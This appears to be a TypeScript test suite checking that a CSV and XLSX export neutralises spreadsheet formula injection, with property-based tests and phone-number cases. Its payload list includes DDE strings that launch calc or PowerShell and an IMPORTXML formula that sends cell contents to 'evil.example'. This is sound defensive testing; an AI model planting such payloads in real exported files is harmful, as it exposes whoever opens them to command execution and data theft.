import fc from "fast-check"
import { readXlsx } from "hucre/xlsx"
import { expect, test } from "vitest"
import type { OwnData } from "@/lib/account/own-data"
import { ownDataCsv } from "@/lib/account/own-data-csv"
import { exportStream } from "./export-stream"

const payloads = [
  "=1+1",
  "=1+1+cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example","x")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  "=cmd|'/C powershell'!A0",
  "=\u00001+1",
  "=-1",
  "=",
  "+1+1",
  "+A1",
  "+SUM(A1:A9)",
  "+1-415-555-0100",
  "-1+1",
  "-2-3",
  "-A1",
  "-cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "@A1",
  "\t=1+1",
  "\tA",
  "\r=1+1",
  "\r\n=1+1",
  "\n=1+1",
  "\u0000=1+1",
  "＝1+1",
  "＋1＋A1",
  "－1＋A1",
  "＠SUM(1)",
  "﹦1+1",
  "﹢A1",
  "﹣A1",
  "﹫A1",
  "−A1",
  "\u200B=1+1",
  "\u200F\u2067=1+1",
  "\uFEFF=1+1",
  "\u00AD＝1+1",
  " =1+1",
  "\u00A0=1+1",
  "'=1+1",
]

const columns = [
  "name",
  "email",
  "status",
  "code",
  "answer.diet",
  "answer.company",
  "answer.notes",
  "answer.phone",
]

/** What a spreadsheet reads as the beginning of a formula. */
const isLive = (cell: string) =>
  /^[=+\-@\u2212\t\r\n\0]/.test(cell.normalize("NFKC").replace(/^[\p{Cf}\p{Z}]+/u, ""))

/** The documented way back: one apostrophe before what it defused goes. */
const withoutApostrophe = (cell: string) =>
  /^'+[\s\p{C}\p{Z}]*[=+\-@\u2212\t\r\n\0]/u.test(cell.normalize("NFKC")) ? cell.slice(1) : cell

/** Cells of a CSV by RFC 4180. */
function readCells(csv: string): string[] {
  return [...csv.matchAll(/"((?:[^"]|"")*)"|([^",\r\n\uFEFF]+)/g)].map(
    ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? "",
  )
}

async function* oneBatch(row: string[]) {
  yield [row]
}

const organizerCsv = (row: string[]) => new Response(exportStream("csv", columns, oneBatch(row))).text()

const ownCsv = (row: string[]) =>
  ownDataCsv({
    account: Object.fromEntries(columns.map((column, at) => [column, row[at]])),
  } as unknown as OwnData)

test("there are 40 different ways to begin a formula", () => {
  expect(new Set(payloads).size).toBe(40)
})

test.each(payloads)(
  "no field of a file makes a formula of %j, and the text can be had back",
  async (payload) => {
    const row = columns.map(() => payload)
    const cells = readCells(await organizerCsv(row)).slice(columns.length)
    const own = readCells(ownCsv(row))
      .filter((_, at) => at % 3 === 2)
      .slice(1)

    for (const written of [cells, own]) {
      expect(written.filter(isLive)).toEqual([])
      expect(written.map(withoutApostrophe)).toEqual(row)
    }
  },
)

test("a workbook keeps each of them as a text and has no formula", async () => {
  const rows = payloads.filter((payload) => !payload.includes("\0")).map((payload) => [payload])
  async function* batches() {
    yield rows
  }
  const file = await new Response(exportStream("xlsx", ["name"], batches())).arrayBuffer()
  const [sheet] = (await readXlsx(new Uint8Array(file))).sheets

  expect(JSON.stringify(sheet)).not.toContain('"formula"')
  expect(sheet?.rows).toHaveLength(rows.length + 1)
})

test("whatever people type, no cell is live and every text can be had back", async () => {
  const start = fc.constantFrom(
    "",
    "'",
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t",
    "\r",
    "\u200B",
    " ",
    "\uFEFF",
    "−",
  )
  const text = fc.tuple(start, start, fc.string({ unit: "binary" })).map((parts) => parts.join(""))

  await fc.assert(
    fc.asyncProperty(text, async (typed) => {
      const [cell = ""] = readCells(ownCsv([typed])).slice(5)
      const isNumber = /^[+-]?[\d\s().,/-]+$/.test(typed)
      expect(isLive(cell) && !isNumber).toBe(false)
      expect(isNumber ? cell.replace(/^'/, "") : withoutApostrophe(cell)).toBe(typed)
    }),
    { numRuns: 1_000 },
  )
})

test.each(["+98 912 345 6789", "+989123456789", "+1 (415) 555-0100", "+49 30 1234567"])(
  "the telephone number %s stands in the file as it was typed",
  async (phone) => {
    const cells = readCells(await organizerCsv(columns.map(() => phone))).slice(columns.length)

    expect(new Set(cells)).toEqual(new Set([phone]))
  },
)
